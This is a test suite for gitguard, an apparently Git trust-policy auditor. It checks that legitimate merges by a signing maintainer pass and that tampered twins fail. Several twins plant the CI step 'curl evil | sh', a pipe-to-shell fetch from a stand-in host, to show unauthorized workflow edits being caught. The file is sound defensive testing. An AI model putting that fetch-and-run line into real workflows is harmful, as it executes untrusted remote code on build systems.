// Eighth round of clean set-ups that must pass (see clean-workflows.test.ts to -7): the merges real
// projects make after this hour's stricter checks (a protected path compared as mode and id, a merge
// equal to one parent judged against the other too). A policy made by `gitguard init`, Alice its
// maintainer, Carol a signer who may not change protected paths. Each case keeps a twin that fails.
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, tempDir, type TestRepo } from '../helpers/repo.js';
import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { ROOT, runMain, parseJson, resultOf, type JsonReport } from '../helpers/cli.js';

let alice: SshTestKey;
let carol: SshTestKey;
let base: TestRepo;

const RULES = [
  'commits-signed',
  'signatures-valid',
  'signers-authorized',
  'policy-changes-authorized',
  'protected-paths-changed-by-maintainers',
  'ci-gate-kept',
];

const WF = (name: string, extra = '') =>
  `name: ${name}\non: [push]\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx gitguard audit\n${extra}`;

const commitAs = (r: TestRepo, key: SshTestKey, message: string, files: Record<string, string>, args: string[] = []) =>
  commitAsPerson(r, key, `${key === alice ? 'alice' : 'carol'}@example.com`, message, files, args);
const envOf = (key: SshTestKey): NodeJS.ProcessEnv => {
  const who = key === alice ? 'alice' : 'carol';
  return {
    GIT_AUTHOR_NAME: who,
    GIT_AUTHOR_EMAIL: `${who}@example.com`,
    GIT_COMMITTER_NAME: who,
    GIT_COMMITTER_EMAIL: `${who}@example.com`,
  };
};
/** git run as `key`'s owner, signing what it commits. */
const gitAs = (r: TestRepo, key: SshTestKey, args: string[]): string =>
  r.run(['-c', `user.signingkey=${key.path}`, '-c', 'commit.gpgSign=true', ...args], { env: envOf(key) });
const asAlice = (r: TestRepo, m: string, f: Record<string, string>) => commitAs(r, alice, m, f);
const asCarol = (r: TestRepo, m: string, f: Record<string, string>) => commitAs(r, carol, m, f);

beforeAll(async () => {
  const keys = mkdtempSync(join(tmpdir(), 'gg-clean8-'));
  alice = makeSshKey(keys, 'ed25519', 'alice');
  carol = makeSshKey(keys, 'ed25519', 'carol');
  const r = makeRepo();
  configureSshSigning(r, alice);
  r.run(['config', 'user.email', 'alice@example.com']);
  r.run(['config', 'user.name', 'alice']);
  asAlice(r, 'start', {
    'src/a.txt': 'a\n',
    '.github/workflows/ci.yml': WF('ci'),
    '.github/workflows/release.yml': WF('release'),
    '.github/CODEOWNERS': '* @alice\n',
    '.githooks/pre-commit': '#!/bin/sh\nexit 0\n',
  });
  const init = await runMain(['init', '-C', r.dir], { env: r.env });
  expect(init.code).toBe(0);
  // Carol signs, Alice alone maintains.
  r.run(['add', '.gitguard']);
  asAlice(r, 'Add gitguard trust policy', {});
  const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
  expect(policy).toMatch(/maintainers:/);
  r.write({
    '.gitguard/policy.yml': policy.replace(
      /signers:\n/,
      'signers:\n  - name: "Carol"\n    emails: ["carol@example.com"]\n',
    ),
  });
  writeFileSync(join(r.dir, '.gitguard', 'allowed_signers'), `carol@example.com ${carol.pub}\n`, { flag: 'a' });
  asAlice(r, 'policy: carol signs', {});
  base = r;
});
afterAll(cleanupTemp);

const audit = async (r: TestRepo, extra: string[] = []) => {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', RULES.join(','), ...extra], {
    env: r.env,
  });
  return { code: res.code, report: parseJson(res), stderr: res.stderr };
};
const failing = (report: JsonReport): string[] =>
  RULES.filter((id) => !['pass', 'not-applicable'].includes(resultOf(report, id).outcome));

test('sanity: the base passes', async () => {
  const { report, code } = await audit(base);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
});

test('octopus merge by carol of topics that touch no protected path, main changed a workflow since', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  for (const t of ['t1', 't2', 't3']) {
    r.run(['checkout', '-q', '-b', t, fork]);
    asCarol(r, t, { [`src/${t}.txt`]: `${t}\n` });
  }
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci: cache', { '.github/workflows/ci.yml': WF('ci', '      - run: echo cache\n') });
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2', 't3']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('octopus merge by carol: a topic where alice changed one workflow, main another since', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 't1', fork]);
  asAlice(r, 't1 ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo t1\n') });
  r.run(['checkout', '-q', '-b', 't2', fork]);
  asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'release', { '.github/workflows/release.yml': WF('release', '      - run: echo main\n') });
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
});

test("octopus by carol bringing in a topic's policy change signed by alice passes; twin: one keeping the old policy fails", async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 't1', fork]);
  const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
  asAlice(r, 'policy: dave signs', {
    '.gitguard/policy.yml': policy.replace(
      /signers:\n/,
      'signers:\n  - name: "Dave"\n    emails: ["dave@example.com"]\n',
    ),
  });
  r.run(['checkout', '-q', '-b', 't2', fork]);
  asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo p\n') });
  const before = r.head();
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
  r.run(['reset', '-q', '--hard', before]);
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
  r.run(['checkout', before, '--', '.gitguard']);
  r.run(['add', '-A']);
  gitAs(r, carol, ['commit', '-q', '--amend', '--no-edit']);
  const evil = r.head();
  const twin = await audit(r);
  expect(resultOf(twin.report, 'policy-changes-authorized').findings.map((f) => f.commit)).toEqual([evil]);
  expect(twin.code).toBe(1);
});

test('SHA-256: an octopus by carol over a workflow change on main and merge=union on CODEOWNERS pass; twin: an edited octopus fails', async () => {
  const r = makeRepo({ objectFormat: 'sha256' });
  configureSshSigning(r, alice);
  asAlice(r, 'policy', {
    '.gitguard/policy.yml': base.run(['show', 'main:.gitguard/policy.yml']),
    '.gitguard/allowed_signers': base.run(['show', 'main:.gitguard/allowed_signers']) + '\n',
    '.github/workflows/ci.yml': WF('ci'),
    '.github/CODEOWNERS': '* @alice\n',
    '.gitattributes': '.github/CODEOWNERS merge=union\n',
  });
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 't1', fork]);
  asAlice(r, 'owner b', { '.github/CODEOWNERS': '* @alice\n/b/ @bob\n' });
  r.run(['checkout', '-q', '-b', 't2', fork]);
  asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
  r.run(['checkout', '-q', '-b', 'side', fork]);
  asAlice(r, 'owner d', { '.github/CODEOWNERS': '* @alice\n/d/ @dave\n' });
  r.run(['checkout', '-q', 'main']);
  const ci = asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo sha256\n') });
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'union', 'side']);
  expect(r.run(['show', 'HEAD:.github/CODEOWNERS'])).toMatch(/@bob[\s\S]*@dave|@dave[\s\S]*@bob/);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
  r.run(['checkout', '-q', '-b', 'evil', ci]);
  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
  r.write({ '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
  r.run(['add', '-A']);
  gitAs(r, carol, ['commit', '-q', '--amend', '--no-edit']);
  const evil = r.head();
  const twin = await audit(r);
  expect(resultOf(twin.report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([evil]);
});

describe('a pull request forked before the trust root (open on adoption day), merged after it', () => {
  /**
   * base's first commit (before `gitguard init`), a pr branch from it carrying `build`, merged into
   * main by carol. The branch is judged by the trust root's policy, where alice alone signs.
   */
  function preRootPr(build: (r: TestRepo) => void, edit?: Record<string, string>) {
    const r = copyRepo(base);
    const from = r.head();
    r.run(['checkout', '-q', '-b', 'pr', 'HEAD~2']);
    build(r);
    r.run(['checkout', '-q', 'main']);
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pull request #1', 'pr']);
    if (edit) {
      r.write(edit);
      r.run(['add', '-A']);
      gitAs(r, carol, ['commit', '-q', '--amend', '--no-edit']);
    }
    return { r, from, merged: r.head() };
  }
  /** The server's hook on a push of main from `from` to `to`, its objects fetched there first (a push's quarantine). */
  async function preReceive(r: TestRepo, from: string, to: string) {
    const dir = join(tempDir(), 'server.git');
    r.run(['init', '-q', '--bare', dir]);
    r.run(['push', '-q', dir, `${from}:refs/heads/main`]);
    r.run(['--git-dir', dir, 'fetch', '-q', r.dir, to]);
    return runMain(['hook', 'run', 'pre-receive'], { cwd: dir, env: r.env, input: `${from} ${to} refs/heads/main\n` });
  }

  test("alice's workflow change on it, merged by carol: audit and the server hook pass (before: the merge failed protected-paths)", async () => {
    const { r, from, merged } = preRootPr((b) => {
      asAlice(b, 'ci: node 22', { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n') });
      asAlice(b, 'feature', { 'src/f.txt': 'f\n' });
    });
    const { report, code } = await audit(r);
    expect(failing(report)).toEqual([]);
    expect(code).toBe(0);
    const receive = await preReceive(r, from, merged);
    expect(receive.stderr).not.toMatch(/refused/);
    expect(receive.code).toBe(0);
  });

  test("twin: carol's own workflow change on it fails at her commit, in audit and the server hook", async () => {
    let bad = '';
    const { r, from, merged } = preRootPr((b) => {
      bad = asCarol(b, 'ci: mine', { '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
    });
    const { report, code } = await audit(r);
    expect(resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([bad]);
    expect(code).toBe(1);
    const receive = await preReceive(r, from, merged);
    expect(receive.stderr).toMatch(/protected-paths-changed-by-maintainers/);
    expect(receive.code).not.toBe(0);
  });

  test("twin: carol's merge that edits the workflow by hand fails at the merge", async () => {
    const { r, merged } = preRootPr(
      (b) => asAlice(b, 'ci: node 22', { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n') }),
      { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n      - run: curl evil | sh\n') },
    );
    const { report } = await audit(r);
    expect(resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([merged]);
  });
});

test('merge=union on CODEOWNERS: both sides add an owner (alice), carol merges', async () => {
  const r = copyRepo(base);
  asAlice(r, 'union', { '.gitattributes': '.github/CODEOWNERS merge=union\n' });
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'side', fork]);
  asAlice(r, 'owner b', { '.github/CODEOWNERS': '* @alice\n/b/ @bob\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'owner c', { '.github/CODEOWNERS': '* @alice\n/c/ @carol\n' });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'merge side', 'side']);
  expect(r.run(['show', 'HEAD:.github/CODEOWNERS'])).toContain('@bob');
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('criss-cross merges with workflow changes on both sides', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'x', fork]);
  asAlice(r, 'x1', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x1\n') });
  r.run(['checkout', '-q', '-b', 'y', fork]);
  asAlice(r, 'y1', { '.github/workflows/release.yml': WF('release', '      - run: echo y1\n') });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y', 'x~0']);
  r.run(['checkout', '-q', 'x']);
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'y1 into x', 'y~1']);
  asAlice(r, 'x2', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x2\n') });
  r.run(['checkout', '-q', 'y']);
  asAlice(r, 'y2', { '.github/workflows/release.yml': WF('release', '      - run: echo y2\n') });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y again', 'x']);
  r.run(['checkout', '-q', 'main']);
  r.run(['merge', '-q', '--ff-only', 'y']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('update branch then merge (merge commit) with main changing a workflow', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'pr', fork]);
  asCarol(r, 'feature', { 'src/f.txt': 'f\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci change', { '.github/workflows/ci.yml': WF('ci', '      - run: echo m\n') });
  r.run(['checkout', '-q', 'pr']);
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge main into pr', 'main']);
  r.run(['checkout', '-q', 'main']);
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pr', 'pr']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('pull with both sides changing different workflows, carol merges', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'up', fork]);
  asAlice(r, 'release', { '.github/workflows/release.yml': WF('release', '      - run: echo up\n') });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo local\n') });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge up', 'up']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('chmod +x of a protected hook by alice under core.fileMode false (update-index --chmod), then a merge by carol', async () => {
  const r = copyRepo(base);
  r.run(['config', 'core.fileMode', 'false']);
  r.run(['update-index', '--chmod=+x', '.githooks/pre-commit']);
  gitAs(r, alice, ['commit', '-q', '-m', 'exec hook']);
  r.run(['checkout', '-q', '-b', 's']);
  asCarol(r, 'c', { 'src/s.txt': 's\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'hooks more', { '.githooks/pre-commit': '#!/bin/sh\nexit 0\n# more\n' });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge s', 's']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('revert -m 1 of a merge that changed a workflow, by alice; -s ours by alice', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'pr', fork]);
  asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo pr\n') });
  r.run(['checkout', '-q', 'main']);
  asCarol(r, 'c', { 'src/m.txt': 'm\n' });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pr', 'pr']);
  gitAs(r, alice, ['revert', '--no-edit', '-m', '1', 'HEAD']);
  r.run(['checkout', '-q', '-b', 'release', fork]);
  asAlice(r, 'hotfix ci', { '.github/workflows/release.yml': WF('release', '      - run: echo hotfix\n') });
  r.run(['checkout', '-q', 'main']);
  gitAs(r, alice, ['merge', '-q', '-s', 'ours', '-m', 'Merge release (ours)', 'release']);
  const { report } = await audit(r);
  expect(failing(report)).toEqual([]);
});

test('update branch (main with a workflow change merged into the PR), then a fast-forward of main to it', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'pr', fork]);
  asCarol(r, 'feature', { 'src/f.txt': 'f\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci change', { '.github/workflows/ci.yml': WF('ci', '      - run: echo m\n') });
  r.run(['checkout', '-q', 'pr']);
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge branch main into pr', 'main']);
  r.run(['checkout', '-q', 'main']);
  r.run(['merge', '-q', '--ff-only', 'pr']);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
});

test('a PR whose commits change a workflow (alice signed) merged by carol while main changed CODEOWNERS', async () => {
  const r = copyRepo(base);
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'pr', fork]);
  asCarol(r, 'feature', { 'src/f.txt': 'f\n' });
  asAlice(r, 'ci for the feature', { '.github/workflows/ci.yml': WF('ci', '      - run: echo f\n') });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'owners', { '.github/CODEOWNERS': '* @alice\n/src/ @carol\n' });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pull request #2', 'pr']);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
});

test('a CODEOWNERS that was always a link, merges by carol around it; twin: carol retargeting the link fails', async () => {
  const r = copyRepo(base);
  r.run(['rm', '-q', '.github/CODEOWNERS']);
  mkdirSync(join(r.dir, 'docs'), { recursive: true });
  r.write({ 'docs/owners.txt': '* @alice\n' });
  symlinkSync('../docs/owners.txt', join(r.dir, '.github', 'CODEOWNERS'));
  asAlice(r, 'owners as a link', {});
  const fork = r.head();
  r.run(['checkout', '-q', '-b', 'pr', fork]);
  asCarol(r, 'feature', { 'src/f.txt': 'f\n' });
  r.run(['checkout', '-q', 'main']);
  asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo l\n') });
  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pr', 'pr']);
  expect(r.run(['ls-tree', 'HEAD', '.github/CODEOWNERS'])).toMatch(/^120000 /);
  const { report, code } = await audit(r);
  expect(failing(report)).toEqual([]);
  expect(code).toBe(0);
  unlinkSync(join(r.dir, '.github', 'CODEOWNERS'));
  symlinkSync('../src/f.txt', join(r.dir, '.github', 'CODEOWNERS'));
  const bad = asCarol(r, 'owners elsewhere', {});
  const twin = await audit(r);
  expect(resultOf(twin.report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([bad]);
});

test('twin: under core.fileMode false, carol making a protected hook executable (update-index --chmod) fails', async () => {
  const r = copyRepo(base);
  r.run(['config', 'core.fileMode', 'false']);
  r.run(['update-index', '--chmod=+x', '.githooks/pre-commit']);
  gitAs(r, carol, ['commit', '-q', '-m', 'exec hook']);
  const bad = r.head();
  const { report } = await audit(r);
  expect(resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([bad]);
});

describe('twins: the same merges made by hand still fail', () => {
  /** The merge just made, its files edited by `key`'s owner (a hand resolution), re-signed. */
  const amendAs = (r: TestRepo, key: SshTestKey, files: Record<string, string>): string => {
    r.write(files);
    r.run(['add', '-A']);
    gitAs(r, key, ['commit', '-q', '--amend', '--no-edit']);
    return r.head();
  };
  const protectedFindings = (report: JsonReport) =>
    resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit);

  test("an octopus by carol that keeps a topic's old workflow (dropping main's change) fails at the merge", async () => {
    const r = copyRepo(base);
    const fork = r.head();
    for (const t of ['t1', 't2']) {
      r.run(['checkout', '-q', '-b', t, fork]);
      asCarol(r, t, { [`src/${t}.txt`]: `${t}\n` });
    }
    r.run(['checkout', '-q', 'main']);
    asAlice(r, 'ci: cache', { '.github/workflows/ci.yml': WF('ci', '      - run: echo cache\n') });
    gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
    const evil = amendAs(r, carol, { '.github/workflows/ci.yml': WF('ci') });
    const { report, code } = await audit(r);
    expect(protectedFindings(report)).toEqual([evil]);
    expect(code).toBe(1);
  });

  test('an octopus whose topic carol changed a workflow on fails at her topic commit', async () => {
    const r = copyRepo(base);
    const fork = r.head();
    r.run(['checkout', '-q', '-b', 't1', fork]);
    const bad = asCarol(r, 't1', { '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
    r.run(['checkout', '-q', '-b', 't2', fork]);
    asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
    r.run(['checkout', '-q', 'main']);
    asAlice(r, 'release', { '.github/workflows/release.yml': WF('release', '      - run: echo r\n') });
    gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
    const { report } = await audit(r);
    expect(protectedFindings(report)).toEqual([bad]);
  });

  test('criss-cross: carol resolving the final merge by editing the workflow (its gitguard step gone) fails', async () => {
    const r = copyRepo(base);
    const fork = r.head();
    r.run(['checkout', '-q', '-b', 'x', fork]);
    asAlice(r, 'x1', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x1\n') });
    r.run(['checkout', '-q', '-b', 'y', fork]);
    asAlice(r, 'y1', { '.github/workflows/release.yml': WF('release', '      - run: echo y1\n') });
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y', 'x']);
    r.run(['checkout', '-q', 'x']);
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'y1 into x', 'y~1']);
    asAlice(r, 'x2', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x2\n') });
    r.run(['checkout', '-q', 'y']);
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y again', 'x']);
    const evil = amendAs(r, carol, {
      '.github/workflows/ci.yml':
        'name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo x2\n',
    });
    const { report, code } = await audit(r);
    expect(protectedFindings(report)).toEqual([evil]);
    expect(code).toBe(1);
  });

  test("merge=union: carol's merge that adds an owner neither side had fails; -merge resolved to one side fails", async () => {
    const r = copyRepo(base);
    asAlice(r, 'union', { '.gitattributes': '.github/CODEOWNERS merge=union\n.github/workflows/ci.yml -merge\n' });
    const fork = r.head();
    r.run(['checkout', '-q', '-b', 'side', fork]);
    asAlice(r, 'owner b', { '.github/CODEOWNERS': '* @alice\n/b/ @bob\n' });
    r.run(['checkout', '-q', 'main']);
    asAlice(r, 'owner c', { '.github/CODEOWNERS': '* @alice\n/c/ @carol\n' });
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'merge side', 'side']);
    const evil = amendAs(r, carol, { '.github/CODEOWNERS': '* @alice\n/c/ @carol\n/b/ @bob\n* @carol\n' });
    let { report } = await audit(r);
    expect(protectedFindings(report)).toEqual([evil]);
    // -merge (no content merge): both sides changed ci.yml, carol keeps hers and drops main's.
    r.run(['reset', '-q', '--hard', fork]);
    r.run(['checkout', '-q', '-B', 'side', fork]);
    asAlice(r, 'ci side', { '.github/workflows/ci.yml': WF('ci', '      - run: echo side\n') });
    r.run(['checkout', '-q', 'main']);
    asAlice(r, 'ci main', { '.github/workflows/ci.yml': `# top\n${WF('ci')}` });
    expect(tryMerge(r, 'side')).not.toBe(0);
    r.run(['checkout', '--ours', '.github/workflows/ci.yml']);
    r.run(['add', '-A']);
    gitAs(r, carol, ['commit', '-q', '--no-edit']);
    const dropped = r.head();
    ({ report } = await audit(r));
    expect(protectedFindings(report)).toEqual([dropped]);
  });
});

/** A merge as carol that may stop on a conflict: git's exit code. */
function tryMerge(r: TestRepo, branch: string): number {
  try {
    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', `merge ${branch}`, branch]);
    return 0;
  } catch {
    return 1;
  }
}

describe('a hook installed by the first gitguard, on another machine (another node and gitguard path)', () => {
  // The exact bytes `hook install` wrote at the first gitguard commit (08221b4), for a node under nvm
  // and a gitguard with a quote in its path: an upgrade must not make them "modified".
  const FIXTURES = join(ROOT, 'test', 'fixtures', 'hooks');
  const hookOutcome = async (r: TestRepo, dir: string, rule: string, hook: string, content: string) => {
    const path = join(dir, 'hooks', hook);
    writeFileSync(path, content);
    chmodSync(path, 0o755);
    const res = await runMain(['audit', '-C', dir, '--format', 'json', '--no-cache', '-r', rule], { env: r.env });
    return resultOf(parseJson(res), rule).outcome;
  };

  test("pre-push and the server's pre-receive pass gitguard-hook-installed and server-hook-installed", async () => {
    const r = makeRepo();
    r.commit('a', { 'a.txt': 'a\n' });
    const prePush = readFileSync(join(FIXTURES, 'pre-push-08221b4'), 'utf8');
    expect(await hookOutcome(r, join(r.dir, '.git'), 'gitguard-hook-installed', 'pre-push', prePush)).toBe('pass');
    const server = join(tempDir(), 'server.git');
    r.run(['init', '-q', '--bare', server]);
    const preReceive = readFileSync(join(FIXTURES, 'pre-receive-08221b4'), 'utf8');
    expect(await hookOutcome(r, server, 'server-hook-installed', 'pre-receive', preReceive)).toBe('pass');
  });

  test('twin: the same hook with its gitguard call removed and the marker recomputed fails', async () => {
    const r = makeRepo();
    r.commit('a', { 'a.txt': 'a\n' });
    const rest = readFileSync(join(FIXTURES, 'pre-push-08221b4'), 'utf8')
      .replace(/^# gitguard-hook v1 .*\n/m, '')
      .replace(/^ {2}"\$GITGUARD_NODE" .*\n/m, '  true\n');
    const hook = rest.replace('\n', `\n# gitguard-hook v1 sha256=${createHash('sha256').update(rest).digest('hex')}\n`);
    expect(await hookOutcome(r, join(r.dir, '.git'), 'gitguard-hook-installed', 'pre-push', hook)).toBe('fail');
  });
});
